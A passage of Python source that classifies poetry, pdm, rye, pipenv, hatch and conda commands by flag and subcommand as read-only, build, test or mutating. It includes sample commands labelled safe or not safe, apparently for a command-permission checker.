                mutate_flags=E(kw.pop("mutates", "")), **kw)


_LOCKED = "--lock --dry-run --no-update --check --regenerate --sync --no-dev --frozen-lockfile --no-lock --locked"
_poetry_install = _project_tool(f"{_LOCKED} --no-root --no-directory --all-extras --all-groups --only-root "
                                "--compile --remove-untracked --prod --production -d --dev --no-editable --no-self "
                                "--fail-fast -x --no-isolation --deploy --ignore-pipfile --skip-lock --pre "
                                "--keep-outdated --selective-upgrade --clear --all --all-dev --no-sync",
                                "--categories --python --venv --skip", handler="python_project_add",
                                loads="-r --requirements", mutates="-g --global --system")
_poetry_add = _project_tool(f"{_LOCKED} -D --dev --optional --allow-prereleases --save-compatible --save-wildcard "
                            "--save-exact --save-minimum --save-safe-compatible -u --unconstrained --update-reuse "
                            "--update-eager --update-all --pre --prerelease --stable --no-sync --no-editable "
                            "--no-self --fail-fast -x --no-isolation --dev --all-extras --all-groups -d",
                            "-e --editable --python --platform --markers --venv --categories",
                            handler="python_project_add", loads="-r --requirements", mutates="-g --global")
_project_read = _project_tool("--tree --why -l --latest -o --outdated -a --all -T --top-level --no-dev --lock "
                              "--strict --path -e --executable --json --csv --markdown --freeze --graph "
                              "--reverse --sort --full-path", "--fields --format --exclude --include",
                              category=READ_ONLY, readonly=True)
_project_build = _project_tool("--clean --no-sdist --no-wheel --no-clean -q --quiet", "-f --format "
                               "--config-settings -t --target", category=TEST_BUILD, does="builds the project",
                               write_flags=E("-o --output -d --dest"))
_PROJECT_RUN = Spec(operands="none", handler="uv_run", does="runs a command in the project environment")
_PROJECT_MUT = mut("changes packages or settings", operands="none")


def _python_manager(extra: tuple[tuple[str, Spec], ...] = (), examples: tuple[tuple[str, str], ...] = ()) -> Spec:
    return Spec(operands="none", handler="package_globals", flags=E(_POETRY_GLOBAL),
                load_flags=E("-C --directory -P --project -p -c --config"),
                subcommands=subs({}, ("install sync update lock up", _poetry_install), ("add remove rm", _poetry_add),
                                 ("build", _project_build),
                                 ("check show info list graph requirements outdated --version config-list",
                                  _project_read),
                                 ("version", _project_tool("--short -s --dry-run --next-phase", "",
                                                           category=READ_ONLY, readonly=True, handler="uv_version")),
                                 ("run", _PROJECT_RUN), ("shell", Spec(operands="none", handler="editor",
                                                                        does="starts a shell")),
                                 ("publish config self init new source", _PROJECT_MUT), *extra,
                                 ("", ro(operands="none"))),
                examples=examples)


_env = Spec(operands="none", subcommands=subs({}, ("info list show find", _project_read), ("*", _PROJECT_MUT)))
_add("poetry", _python_manager((("env", _env),), (
    ("poetry install", "safe"), ("poetry run pytest", "safe"), ("poetry publish", "notsafe"),
    ("poetry install --no-root --with dev", "safe"), ("poetry add 'requests@^2.31'", "safe"),
    ("poetry add git+https://github.com/x/y", "notsafe"), ("poetry -C /tmp/x install", "notsafe"),
    ("poetry show --tree", "readonly safe"), ("poetry version patch", "writes"))))
_add("pdm", _python_manager((("venv", _env),), (("pdm install -G dev", "safe"), ("pdm add httpx", "safe"),
                                                ("pdm add -g black", "notsafe"))))
_add("rye", _python_manager((("toolchain", _env),), (("rye sync", "safe"), ("rye add httpx", "safe"))))
_add("pipenv", _python_manager((("graph --venv --where --py", _project_read),),
                               (("pipenv install", "safe"), ("pipenv install --dev", "safe"),
                                ("pipenv install --system", "notsafe"))))
_add("hatch", Spec(operands="none", handler="package_globals", flags=E(_POETRY_GLOBAL),
                   load_flags=E("-p --project --config --data-dir --cache-dir"),
                   subcommands=subs({}, ("build", _project_build),
                                    ("test", _project_tool("-c --cover -a --all -r --randomize -p --parallel "
                                                           "--retries --include --exclude --show --python", "",
                                                           category=TEST_BUILD, does="runs the project's tests")),
                                    ("run", _PROJECT_RUN), ("status version --version", _project_read),
                                    ("env", _env), ("shell", Spec(operands="none", handler="editor",
                                                                  does="starts a shell")),
                                    ("*", _PROJECT_MUT), ("", ro(operands="none"))),
                   examples=(("hatch build", "safe"), ("hatch test", "safe"), ("hatch publish", "notsafe"))))

# -- conda -----------------------------------------------------------------------------------------

_CONDA_READ = _reader("--json -e --export --explicit --revisions -f --full-name --show-channel-urls --no-pip "
                      "--canonical --md5 -v --verbose -q --quiet --envs -a --all --base -s --system --offline "
                      "--override-channels --info -i --use-index-cache --platform --unknown -h --help",
                      "-n --name -p --prefix --subdir --platform -c --channel")
_add("conda mamba micromamba", Spec(operands="none", flags=E("-h --help -V --version -v --verbose -q --quiet"),
                                    subcommands=subs(
    {}, ("list info search env-list --version", _CONDA_READ),
    ("env", Spec(operands="none", subcommands=subs({}, ("list export", _CONDA_READ),
                                                 ("*", mut("changes environments", operands="none", network=True))))),
    ("activate deactivate", Spec(readonly=True, category=NAVIGATION, operands="none", flags=E("--stack --no-stack"))),
    ("run", Spec(operands="none", handler="uv_run", does="runs a command in an environment")),
    ("*", mut("changes environments", operands="none", network=True))),
    examples=(("conda list", "readonly safe"), ("conda install numpy", "notsafe"),
              ("conda list -n base --json", "readonly safe"))))
